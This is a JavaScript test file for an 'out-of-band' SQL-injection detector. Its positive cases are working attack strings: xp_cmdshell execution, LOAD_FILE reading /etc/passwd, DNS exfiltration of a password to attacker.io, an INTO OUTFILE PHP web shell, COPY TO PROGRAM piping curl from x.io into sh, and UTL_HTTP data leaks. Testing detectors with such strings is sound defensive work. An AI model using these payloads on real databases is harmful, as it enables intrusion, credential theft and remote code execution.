import { describe } from 'node:test'
import policy from '../../../../../src/detection/policies/sql-injection/out-of-band.js'
import { ORDINARY_SQL, runNegatives, runPositives } from './sql-cases.js'

describe('sql-injection.out-of-band flags database features that reach the host or network', () => {
  runPositives(policy, [
    { name: 'EXEC xp_cmdshell', text: "EXEC master..xp_cmdshell 'net user'", min: 85, shows: 'xp_cmdshell' },
    { name: 'LOAD_FILE of /etc/passwd', text: "' UNION SELECT LOAD_FILE('/etc/passwd')--", min: 85, shows: 'LOAD_FILE' },
    { name: 'LOAD_FILE of a UNC path for DNS exfiltration', text: "SELECT LOAD_FILE(CONCAT('\\\\\\\\', (SELECT password FROM users LIMIT 1), '.attacker.io\\\\a'))", min: 90, shows: 'LOAD_FILE' },
    { name: 'INTO OUTFILE writing a web shell', text: "SELECT '<?php system($_GET[c]); ?>' INTO OUTFILE '/var/www/html/s.php'", min: 90, shows: 'into outfile' },
    { name: 'COPY TO PROGRAM', text: "COPY (SELECT '') TO PROGRAM 'curl http://x.io/s | sh'", min: 85, shows: 'PROGRAM' },
    { name: 'UTL_HTTP request', text: "' || UTL_HTTP.request('http://x.io/'||(SELECT user FROM dual)) --", min: 80, shows: 'UTL_HTTP.request' },
  ])
})

describe('sql-injection.out-of-band ignores mentions', () => {
  runNegatives(policy, [
    ...ORDINARY_SQL,
    { name: 'asking how to disable xp_cmdshell names no call', text: 'How do I check whether xp_cmdshell is disabled on our server?', max: 0 },
  ])
})
